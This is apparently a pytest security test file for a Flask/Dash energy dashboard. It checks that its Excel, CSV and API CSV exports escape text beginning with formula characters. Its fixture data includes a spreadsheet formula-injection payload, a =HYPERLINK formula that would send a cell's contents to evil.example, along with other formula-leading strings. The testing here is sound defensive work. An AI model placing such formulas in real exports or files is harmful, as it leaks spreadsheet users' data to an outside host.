"""Security findings on data: exports never carry live spreadsheet formulas (finding 4).

Through the real app (Flask test client, real PostgreSQL): the explorer's Excel and CSV downloads and the
/api/v1 CSV, for devices, an account and a unit whose text starts with each formula character.
"""
from __future__ import annotations

import base64
import csv
import io
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from ingest import simulator
from tds_dash.app import create_app
from tds_dash.consumption.explorer import model as explorer_model
from tds_dash.exports import FORMULA_STARTS, safe_cell
from tests.conftest import ensure_test_user
from tests.helpers import settings_for
from tests.test_tenant_isolation import _outputs, signed_in_client

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
NAMES = [HYPERLINK, "+1+1", "-2+3", "@SUM(1)", "\tTAB", "\rCR"]
ACCOUNT_NAME = "@Acme"
UNIT = "=1+2"
ZONE = ZoneInfo("America/Sao_Paulo")


@pytest.fixture
def dangerous_fleet(database, mosquitto):
    """acme: one gateway, six devices named with each formula character; account and unit too."""
    fleet = simulator.build_fleet(["acme"], 1, 3 * len(NAMES))
    simulator.provision_fleet(database.engine(), fleet, {"acme": ACCOUNT_NAME})
    now = datetime.now(timezone.utc)
    simulator.backfill(database.dsn, "America/Sao_Paulo", fleet, now - timedelta(days=3), now, timedelta(hours=2),
                       progress=False)
    codes = [code for (code,) in database.query(
        "SELECT DISTINCT d.code FROM devices d JOIN device_metrics dm ON dm.device_id = d.id JOIN metrics m"
        " ON m.id = dm.metric_id WHERE m.name = 'energy_kwh' ORDER BY d.code LIMIT %s", (len(NAMES),))]
    assert len(codes) == len(NAMES)
    database.execute("DELETE FROM devices WHERE code <> ALL(%s)", (codes,))
    for code, name in zip(codes, NAMES):
        database.execute("UPDATE devices SET name = %s WHERE code = %s", (name, code))
    database.execute("UPDATE metrics SET unit = %s WHERE name = 'energy_kwh'", (UNIT,))
    app = create_app(settings_for(database, mosquitto))
    ensure_test_user(app.server.extensions["tds"].engine, "test-admin", "admin")
    client = signed_in_client(app, "test-admin")
    return app, client, database


def post_callback(app, client, output_part: str, values: dict, changed: str | None = None) -> dict:
    """One callback through /_dash-update-component; inputs and state filled from `values` by "id.prop" or id."""
    key = next(k for k in app.callback_map if output_part in k)
    spec = app.callback_map[key]
    body = {"output": key, "outputs": _outputs(key),
            "inputs": [{**i, "value": _value(values, i)} for i in spec["inputs"]],
            "state": [{**s, "value": _value(values, s)} for s in spec.get("state", [])],
            "changedPropIds": [changed or f"{spec['inputs'][0]['id']}.{spec['inputs'][0]['property']}"]}
    response = client.post("/_dash-update-component", json=body)
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return response.get_json()["response"]


def _value(values: dict, dependency: dict):
    return values.get(f"{dependency['id']}.{dependency['property']}", values.get(dependency["id"]))


def explorer_download(app, client, button: str) -> dict:
    """The real store, then the real download (read again from the data layer, with every device)."""
    today = datetime.now(timezone.utc).date()
    view = {"explorer-metric": "energy_kwh", "explorer-dates.end_date": today.isoformat(),
            "explorer-dates.start_date": (today - timedelta(days=2)).isoformat()}
    store = post_callback(app, client, "explorer-store.data", {**view, "explorer-interval": 1})["explorer-store"]["data"]
    assert store and store["device_count"] == len(NAMES), store
    download = post_callback(app, client, "explorer-download.data",
                             {**view, button: 1, "explorer-mode": "bars"}, f"{button}.n_clicks")
    return download["explorer-download"]["data"]


def assert_text_is_safe(value, where: str) -> None:
    if isinstance(value, str):
        assert not value.startswith(FORMULA_STARTS), f"{where}: {value!r} would run as a formula"


def test_sec401_safe_cell_quotes_each_formula_start_and_keeps_numbers():
    for start in FORMULA_STARTS:
        assert safe_cell(start + "x") == "'" + start + "x"
    assert safe_cell("Plain =1") == "Plain =1" and safe_cell("") == ""
    assert safe_cell(-5.5) == -5.5 and safe_cell(3) == 3 and safe_cell(None) is None


def test_sec402_explorer_excel_holds_text_not_formulas(dangerous_fleet):
    app, client, _ = dangerous_fleet
    data = explorer_download(app, client, "explorer-download-xlsx")
    book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(data["content"])))
    totals = book["totais"]
    header = [cell.value for cell in totals[1]]
    names = [row[header.index("Nome")] for row in totals.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in names) == sorted("'" + name for name in NAMES)
    for cell in names + [row[header.index("Conta")] for row in totals.iter_rows(min_row=2)]:
        assert cell.data_type == "s" and cell.value.startswith("'"), (cell.value, cell.data_type)
    numbers = [row[header.index(f"Consumo ({UNIT})")] for row in totals.iter_rows(min_row=2)]
    assert all(cell.data_type == "n" and isinstance(cell.value, float) for cell in numbers)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                assert_text_is_safe(cell.value, f"{sheet.title}!{cell.coordinate}")
    chart = book["gráfico"]
    assert all(cell.data_type == "n" for cell in chart[2][1:] if cell.value is not None)


def test_sec403_explorer_csv_holds_text_not_formulas(dangerous_fleet):
    app, client, _ = dangerous_fleet
    # Charted labels are serial/code (patterns that cannot start a formula) and the download is read again
    # on the server (issue 16), so no request can put text in it; a label that did start one is escaped.
    data = explorer_download(app, client, "explorer-download-csv")
    rows = list(csv.reader(io.StringIO(data["content"])))
    assert len(rows) > 2 and rows[0][1].endswith(f" ({UNIT})"), rows[0]
    for row in rows:
        for value in row:
            assert_text_is_safe(value, "explorer csv")
    float(rows[1][1] or 0)  # numbers stay plain numbers
    store = {"metric": "energy_kwh", "unit": UNIT, "granularity": "day", "buckets": ["2026-03-01T03:00:00+00:00"],
             "series": [{"device_id": 1, "label": HYPERLINK, "values": [1.0]}], "previous": None}
    header = next(csv.reader(io.StringIO(explorer_model.to_csv(store, "bars", ZONE))))
    # A header is the series' label and its unit ("… (kWh)"): the whole cell is escaped, label first.
    assert header[1].startswith("'" + HYPERLINK), header


def test_sec404_api_csv_holds_text_not_formulas(dangerous_fleet):
    _, client, database = dangerous_fleet
    device = database.scalar("SELECT min(id) FROM devices")
    today = datetime.now(timezone.utc).date()
    for path in ("consumption", "readings"):
        response = client.get(f"/api/v1/{path}?device={device}&from={today - timedelta(days=2)}&to={today}"
                              "&format=csv&metric=energy_kwh")
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
        rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
        assert rows and {row["unit"] for row in rows} == {"'" + UNIT}
        for row in rows:
            for value in row.values():
                assert_text_is_safe(value, f"/api/v1/{path}")
        assert float(rows[0]["consumption"] or 0) >= 0 and int(rows[0]["device_id"]) == device
